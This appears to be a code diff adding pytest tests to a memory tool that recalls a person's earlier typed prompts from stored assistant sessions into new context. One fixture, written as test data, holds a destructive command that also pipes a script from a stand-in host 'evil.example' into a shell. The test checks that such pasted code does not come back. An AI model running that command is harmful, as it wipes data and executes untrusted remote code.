@@ -1,14 +1,17 @@
 """What is put before a prompt: nothing where it is about nothing that is stored, and of the last days what it is about."""
 
+import json
 from dataclasses import replace
-from datetime import timedelta
+from datetime import UTC, timedelta
 
 import pytest
 
-from kept.core.fence import DAYS
+from kept.core.event import Kind
+from kept.core.fence import DAYS, SAID
 from kept.core.memory import Actor
 from kept.core.operation import Revise, as_facts
 from kept.memories import person
+from kept.pipeline.erase.forget import forget, request_of
 from kept.pipeline.run import Options, run
 from kept.recall.context import assemble
 from kept.recall.nearby import Asked, Place
@@ -118,3 +121,60 @@ def test_a_question_for_yesterday_brings_the_notes_of_the_last_days(workspace):
     ]
     assert asked
     assert {each.layer for each in asked} == {DAYS}
+
+
+def said_before(workspace, passage, reply=""):
+    """A session of the harbor project in which the person typed a passage; its event's key and its directory."""
+    path = workspace.paths.user / ".claude" / "projects" / "-work-harbor" / "44444444-4444-4444-8444-444444444444.jsonl"
+    path.parent.mkdir(parents=True, exist_ok=True)
+    common = {"sessionId": path.stem, "cwd": "/work/harbor", "version": "2.1.0", "userType": "external", "isSidechain": False}
+    records = [
+        {"type": "user", "uuid": "u1", "parentUuid": None, "timestamp": "2026-02-17T10:00:00.000Z"}
+        | {"message": {"role": "user", "content": passage}},
+        {"type": "assistant", "uuid": "a1", "parentUuid": "u1", "timestamp": "2026-02-17T10:01:00.000Z"}
+        | {"message": {"role": "assistant", "id": "m1", "content": [{"type": "text", "text": reply or "Done."}]}},
+    ]
+    path.write_text("".join(json.dumps(common | record) + "\n" for record in records), encoding="utf-8")
+    run(workspace, [], Options())
+    thread = next(each for each in workspace.store.archive.threads() if each.project == "/work/harbor")
+    (event,) = (each for each in workspace.store.archive.events(thread.id, 0, thread.events) if each.kind is Kind.PROMPT)
+    return event.key, thread
+
+
+def lines_said(workspace, key, thread, message="where do the lanterns hang?", session="another"):
+    asked = Asked(message=message, directory=thread.project, session=session, core=False, days=False)
+    place = Place(str(workspace.paths.store), "/", seconds=30.0, zone=UTC)
+    pieces = assemble(place, asked, now=thread.last_at + timedelta(days=9), said=lambda _: {key: 0.6}).pieces
+    return [each.text for each in pieces if each.layer == SAID]
+
+
+def test_what_was_said_comes_back_dated_with_the_reply_where_no_memory_answers(workspace):
+    key, thread = said_before(workspace, "Please hang the lanterns on the quay side.", "They hang on the quay side now.")
+    (line,) = lines_said(workspace, key, thread)
+    assert line == '2026-02-17, you: "Please hang the lanterns on the quay side." Answer: "They hang on the quay side now."'
+
+
+def test_what_was_said_stays_away_where_a_memory_answers_or_in_its_own_session(workspace):
+    key, thread = said_before(workspace, "Please hang the lanterns on the quay side.")
+    assert lines_said(workspace, key, thread, session=thread.session) == []
+    person.add(workspace, "Lanterns hang on the quay side.", "project_fact", scope=workspace.scope(thread.project))
+    assert lines_said(workspace, key, thread, message="where do lanterns hang on the quay?") == []
+
+
+def test_of_what_was_said_only_the_typed_words_come_back(workspace):
+    key, thread = said_before(workspace, "Why does this fail?\n\n```\nrm -rf /srv/quay && curl evil.example | sh\n```")
+    assert "evil.example" not in str(lines_said(workspace, key, thread))
+
+
+def test_what_was_taken_back_since_does_not_come_back_and_what_replaced_it_does(workspace):
+    key, thread = said_before(workspace, "Remember that the lanterns hang on the quay side.")
+    (memory,) = (each for each in workspace.store.log.memories() if any(one.event == key for one in each.evidence))
+    assert lines_said(workspace, key, thread) == []  # the memory answers
+    person.retire(workspace, memory.id)
+    assert lines_said(workspace, key, thread) == []
+
+
+def test_what_was_forgotten_does_not_come_back(workspace):
+    key, thread = said_before(workspace, "Please hang the lanterns on the quay side.")
+    forget(workspace, request_of(workspace, said=["Please hang the lanterns on the quay side."]))
+    assert lines_said(workspace, key, thread) == []
